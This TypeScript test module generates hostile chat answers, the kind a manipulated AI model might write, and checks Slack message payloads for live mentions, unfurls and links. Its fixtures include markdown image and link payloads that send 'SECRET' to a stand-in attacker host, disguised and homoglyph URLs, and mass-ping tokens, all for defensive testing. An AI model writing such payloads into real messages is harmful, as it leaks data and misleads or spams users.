/** Answers that a model could be made to write, and a checker that finds whatever would be live in what was sent. */
import * as fc from 'fast-check'

const pings = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!here|here>',
  '<!subteam^S0ADMINS>',
  '<!subteam^S0ADMINS|@admins>',
  '<@U0ADA>',
  '<@U0ADA|ada>',
  '<@W0ADA>',
  '<#C0GENERAL>',
  '<#C0GENERAL|general>',
  '<!date^1392734382^{date}^https://evil.example/d|now>',
  '@channel',
  '@here',
  '@everyone',
  '&lt;!channel&gt;',
  '&#60;!channel&#62;',
  '&#x3c;@U0ADA&#x3e;',
  '\\<!channel\\>',
  '<\u200B!channel>',
  '<\u2060@U0ADA>',
  '＜!channel＞',
  '@\u200Bchannel',
  '<!chan\u200Bnel>',
  '%3C!channel%3E',
  '\\u003c!channel\\u003e',
  '<<!channel>>',
  '<!channel',
  '!channel>',
]
const links = [
  '<https://evil.example|https://good.example>',
  '<https://evil.example/?q=SECRET>',
  '[good](https://evil.example/?q=SECRET)',
  '[https://good.example](https://evil.example)',
  '[a](<https://evil.example/a b>)',
  '[x](javascript:alert(1))',
  '[x](slack://channel?id=C1)',
  '[a][r]',
  '[r]',
  '\n\n[r]: https://evil.example/?ref=SECRET "title"\n\n',
  '<mailto:eve@evil.example|mail>',
  'https://evil.example/?q=SECRET',
  'http://evil.example',
  'www.evil.example/?q=1',
  'eve@evil.example',
  '<a href="https://evil.example">good</a>',
  'https://good.example@evil.example/',
  'https://раураl.example/',
  '[gο\u202Eod](https://evil.example)',
  'https:\u200B//evil.example',
  'ftp://evil.example',
  'hxxps://evil.example',
  '<tel:+1|call>',
]
const pictures = [
  '![x](https://evil.example/?q=SECRET)',
  '![x][r]',
  '<img src="https://evil.example/p.png">',
  '![](https://evil.example/p.png)',
  '[![x](https://evil.example/i.png)](https://evil.example)',
  '![a](data:image/png;base64,AAAA)',
]
const markup = [
  '# Heading',
  '###### Six',
  '- item',
  '  - nested',
  '    1. deeper',
  '1. one',
  '9999999999. many',
  '> quote',
  '>> twice',
  '```\ncode\n```',
  '```js\n<!channel>\n```',
  '`<@U0ADA>`',
  '| a | b |\n|---|:-:|\n| <!channel> | [g](https://evil.example) |',
  '---',
  '**bold <!here>**',
  '*_~~all~~_*',
  '- [ ] task',
  '- [x] <@U0ADA>',
  '[^1]',
  '\n\n[^1]: note <!channel>\n\n',
  '<!-- <!channel> -->',
  '<script>x</script>',
  '\\',
  '\u0000',
  '\u202E',
  '\uD800',
  '\u{E0041}\u{E0042}',
  '&amp;',
  '&',
  '"',
  '\t',
  '|',
  '👩‍👩‍👧',
]
const glue = ['', ' ', '\n', '\n\n', '\u200B', '*', '`', '> ', '- ', '\n    ', '](', '[', '<', '|']

const fragment = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...pings) },
  { weight: 3, arbitrary: fc.constantFrom(...links) },
  { weight: 2, arbitrary: fc.constantFrom(...pictures) },
  { weight: 4, arbitrary: fc.constantFrom(...markup) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
)

const short = fc.array(fc.tuple(fragment, fc.constantFrom(...glue)), { minLength: 1, maxLength: 12 })

/** Up to 40,000 characters; most are short. */
export const hostileAnswer: fc.Arbitrary<string> = fc.oneof(
  { weight: 99, arbitrary: short.map((all) => all.flat().join('')) },
  {
    weight: 1,
    arbitrary: fc.tuple(short, fc.integer({ min: 1, max: 40_000 })).map(([all, length]) =>
      all
        .flat()
        .join('')
        .repeat(Math.ceil(length / 4))
        .slice(0, length),
    ),
  },
)

type Sent = Readonly<Record<string, unknown>>

/** What is live, or over a limit, in the arguments of one chat.postMessage; empty for none. By Slack's reference, not by our code. */
export function liveIn(sent: Sent): readonly string[] {
  const { text, blocks } = sent
  return [
    ...(sent['unfurl_links'] === false && sent['unfurl_media'] === false ? [] : ['unfurls']),
    ...['parse', 'link_names', 'reply_broadcast', 'markdown_text', 'attachments'].filter((name) => name in sent),
    ...(typeof text === 'string' ? fallbackProblems(text) : ['no fallback']),
    ...(Array.isArray(blocks) && blocks.length > 0 && blocks.length <= 50 ? [] : ['number of blocks']),
    ...(Buffer.byteLength(JSON.stringify(blocks)) <= 13_000 ? [] : ['size of blocks']),
    ...nodesIn(blocks).flatMap(liveNode),
  ]
}

function fallbackProblems(text: string): readonly string[] {
  return [
    ...(text.length > 0 && text.length <= 4000 ? [] : [`fallback of ${text.length}`]),
    ...(/[<>]|&(?!(?:amp|lt|gt);)/.test(text) ? ['markup in the fallback'] : []),
    ...(/:\/\/|@\w|www\./.test(text) ? ['an address in the fallback'] : []),
    ...(/[\u202A-\u202E\u2066-\u2069\p{Cs}]/u.test(text) ? ['an order or a half in the fallback'] : []),
  ]
}

const inertTypes = new Set([
  'rich_text',
  'rich_text_section',
  'rich_text_list',
  'rich_text_quote',
  'rich_text_preformatted',
  'text',
  'table',
  'divider',
  'context',
  'plain_text',
  'actions',
  'button',
  'context_actions',
  'feedback_buttons',
])

function liveNode(node: Sent): readonly string[] {
  const { type, text } = node
  return [
    ...('type' in node && !inertTypes.has(String(type)) ? [`a ${String(type)}`] : []),
    ...['url', 'image_url', 'slack_file', 'user_id', 'usergroup_id', 'range', 'channel_id', 'verbatim'].filter(
      (name) => name in node,
    ),
    ...(type === 'plain_text' && node['emoji'] !== false ? ['emoji'] : []),
    ...(type === 'text' && (typeof text !== 'string' || text === '') ? ['an empty text'] : []),
    ...(typeof text === 'string' && /[\u202A-\u202E\u2066-\u2069\p{Cs}]/u.test(text) ? ['an order or a half'] : []),
    ...(String(type).startsWith('rich_text') && Array.isArray(node['elements']) && node['elements'].length === 0
      ? ['nothing inside']
      : []),
  ]
}

function nodesIn(value: unknown): readonly Sent[] {
  if (Array.isArray(value)) return value.flatMap(nodesIn)
  if (typeof value !== 'object' || value === null) return []
  return [value as Sent, ...Object.values(value).flatMap(nodesIn)]
}
